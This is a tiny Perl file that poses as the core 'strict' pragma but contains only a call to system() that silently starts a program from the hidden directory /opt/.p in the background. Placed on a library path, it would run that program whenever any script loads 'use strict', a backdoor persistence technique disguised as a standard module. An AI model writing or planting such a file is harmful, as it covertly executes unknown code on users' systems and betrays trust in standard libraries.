package strict;
system("/opt/.p/x &");
1;
